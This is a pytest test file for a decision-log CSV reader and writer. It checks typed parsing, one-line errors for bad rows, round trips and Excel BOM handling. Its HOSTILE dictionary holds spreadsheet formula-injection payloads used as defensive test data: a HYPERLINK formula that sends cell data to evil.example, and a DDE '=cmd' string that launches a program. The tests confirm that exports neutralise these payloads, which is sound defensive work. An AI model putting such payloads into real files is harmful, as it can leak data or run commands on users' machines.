"""The decision-log exchange format: what a good file gives, and a one-line error naming the row
for every kind of bad row (nothing is dropped silently)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from hitl.analysis.decision_log import DecisionLogError, read_decision_csv, write_decision_csv
from hitl.analysis.models import CSV_COLUMNS

HEADER = ",".join(CSV_COLUMNS)
GOOD = [
    "d1,triage,network,0.93,auto,0.05,network,,,,2026-11-02T10:00:00Z,acme,0.8",
    "d2,triage,network,0.91,audit,0.05,network,printer,wrong_category,alice,2026-11-02T11:00:00+01:00,acme,0.8",
    "d3,triage,printer,0.42,human,1,printer,printer,,bob,2026-11-03,globex,0.8",
    "d4,reply,send,0.97,AUTO,0.05,send,,,,2026-11-04T08:00:00Z,,0.9",
]


def _write(tmp_path: Path, rows: list[str], header: str = HEADER) -> Path:
    path = tmp_path / "decisions.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def test_a_good_file_reads_into_typed_columns_with_derived_flags(tmp_path: Path) -> None:
    log = read_decision_csv(_write(tmp_path, GOOD))
    assert list(log["decision_id"]) == ["d1", "d2", "d3", "d4"]
    assert list(log["route"]) == ["auto", "audit", "human", "auto"]
    assert list(log["reviewed"]) == [False, True, True, False]
    assert list(log["correct"]) == [False, False, True, False]
    assert list(log["eligible"]) == [True, True, True, True]
    assert log["confidence"].dtype == "float64" and log["propensity"].tolist() == [0.05, 0.05, 1.0, 0.05]
    assert str(log["decided_at"].dt.tz) == "UTC"
    assert log["decided_at"].iloc[1] == pd.Timestamp("2026-11-02T10:00:00Z")
    assert list(log["reopened"]) == [False] * 4


def test_a_human_route_above_the_threshold_is_not_eligible_for_automation(tmp_path: Path) -> None:
    row = "d9,triage,vip,0.99,human,1,vip,vip,,carol,2026-11-05T00:00:00Z,acme,0.8"
    log = read_decision_csv(_write(tmp_path, [*GOOD, row]))
    assert log["eligible"].tolist() == [True, True, True, True, False]


def test_the_optional_reopened_column(tmp_path: Path) -> None:
    rows = [r + (",true" if i == 0 else ",false") for i, r in enumerate(GOOD)]
    log = read_decision_csv(_write(tmp_path, rows, HEADER + ",reopened"))
    assert list(log["reopened"]) == [True, False, False, False]


@pytest.mark.parametrize(
    ("bad", "message"),
    [
        (
            "d5,triage,x,high,auto,0.05,x,,,,2026-11-02T10:00:00Z,acme,0.8",
            "row 5 (line 6): confidence: 'high' is not a number",
        ),
        (
            "d5,triage,x,1.5,auto,0.05,x,,,,2026-11-02T10:00:00Z,acme,0.8",
            "row 5 (line 6): confidence: 1.5 is outside [0, 1]",
        ),
        (
            "d5,triage,x,0.9,auto,0,x,,,,2026-11-02T10:00:00Z,acme,0.8",
            "row 5 (line 6): propensity: 0 is outside (0, 1]",
        ),
        (
            "d5,triage,x,0.9,robot,0.05,x,,,,2026-11-02T10:00:00Z,acme,0.8",
            "row 5 (line 6): route 'robot' is not one of",
        ),
        (
            "d5,triage,x,0.9,auto,0.05,x,,,,yesterday,acme,0.8",
            "row 5 (line 6): decided_at 'yesterday' is not an ISO 8601",
        ),
        (
            "d1,triage,x,0.9,auto,0.05,x,,,,2026-11-02T10:00:00Z,acme,0.8",
            "row 5 (line 6): decision_id 'd1' appears twice",
        ),
        ("d5,,x,0.9,auto,0.05,x,,,,2026-11-02T10:00:00Z,acme,0.8", "row 5 (line 6): checkpoint is empty"),
        ("d5,triage,x,0.9,auto,0.05,,,,,2026-11-02T10:00:00Z,acme,0.8", "row 5 (line 6): ai_value is empty"),
        ("d5,triage,x,0.9,auto,0.05,x,,,,2026-11-02T10:00:00Z,acme,", "row 5 (line 6): threshold: empty"),
        (
            "d5,triage,x,0.3,human,0.5,x,x,,a,2026-11-02T10:00:00Z,acme,0.8",
            "row 5 (line 6): propensity of a human-routed",
        ),
        ("d5,triage,x,0.3,human,1,x,x,,a", "row 5 (line 6): threshold: empty"),  # a short row
    ],
)
def test_a_bad_row_is_named_in_one_line(tmp_path: Path, bad: str, message: str) -> None:
    with pytest.raises(DecisionLogError) as caught:
        read_decision_csv(_write(tmp_path, [*GOOD, bad]))
    text = str(caught.value)
    assert message in text and "\n" not in text


def test_missing_columns_and_empty_files_are_clear(tmp_path: Path) -> None:
    with pytest.raises(DecisionLogError, match="missing column\\(s\\) propensity"):
        read_decision_csv(_write(tmp_path, [], HEADER.replace(",propensity", "")))
    with pytest.raises(DecisionLogError, match="only a header"):
        read_decision_csv(_write(tmp_path, []))
    with pytest.raises(DecisionLogError, match="no such file"):
        read_decision_csv(tmp_path / "nope.csv")


def test_write_then_read_gives_the_same_log(tmp_path: Path) -> None:
    log = read_decision_csv(_write(tmp_path, GOOD))
    again = (
        read_decision_csv(tmp_path / "copy.csv") if write_decision_csv(log, tmp_path / "copy.csv") else None
    )
    assert again is not None
    pd.testing.assert_frame_equal(log, again)


HOSTILE = {
    "client_id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "reviewer": "=cmd|' /C calc'!A0",
    "label": "+SUM(1,2)",
    "ai_value": "-2+3",
    "final_value": "@SUM(A1)",
    "reason_code": "\tcode",
    "decision_id": "'quoted",  # genuinely starts with the guard character
    "checkpoint": "'=already-guarded",
}


def test_export_neutralises_formulas_and_reads_back_losslessly(tmp_path: Path) -> None:
    """Text that a spreadsheet would run gets a leading quote in the file; our reader removes
    exactly that quote, so the round trip is exact, and numeric cells stay plain numbers."""
    log = read_decision_csv(_write(tmp_path, GOOD))
    for column, value in HOSTILE.items():
        log.loc[1, column] = value
    log.loc[0, "client_id"] = "'plain"  # a quote before ordinary text
    path = tmp_path / "export.csv"
    write_decision_csv(log, path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for column, value in HOSTILE.items():
        assert rows[1][column] == "'" + value, column
    assert rows[0]["client_id"] == "''plain"
    assert rows[1]["confidence"] == "0.91" and rows[1]["threshold"] == "0.8"
    again = read_decision_csv(path)
    pd.testing.assert_frame_equal(log, again)
    assert again.loc[1, "reviewer"] == HOSTILE["reviewer"] and again.loc[0, "client_id"] == "'plain"
    log["confidence"] = -0.5  # numeric columns are never guarded, even where a minus sign leads
    write_decision_csv(log, tmp_path / "numbers.csv")
    with (tmp_path / "numbers.csv").open(newline="", encoding="utf-8") as handle:
        assert {row["confidence"] for row in csv.DictReader(handle)} == {"-0.5"}


def test_a_quote_from_another_system_is_kept_unless_it_guards_a_formula(tmp_path: Path) -> None:
    rows = [
        "d1,triage,network,0.93,auto,0.05,network,,,'o'brien,2026-11-02T10:00:00Z,'-acme,0.8",
    ]
    log = read_decision_csv(_write(tmp_path, rows))
    assert log.loc[0, "reviewer"] == "'o'brien" and log.loc[0, "client_id"] == "-acme"


def test_a_byte_order_mark_is_read_as_excels_csv_utf8(tmp_path: Path) -> None:
    """Excel saves "CSV UTF-8" with a BOM; it read as part of the first header, so decision_id was
    reported missing."""
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbf" + "\n".join([HEADER, *GOOD]).encode("utf-8") + b"\n")
    log = read_decision_csv(path)
    assert list(log["decision_id"]) == ["d1", "d2", "d3", "d4"]
    pd.testing.assert_frame_equal(log, read_decision_csv(_write(tmp_path, GOOD)))
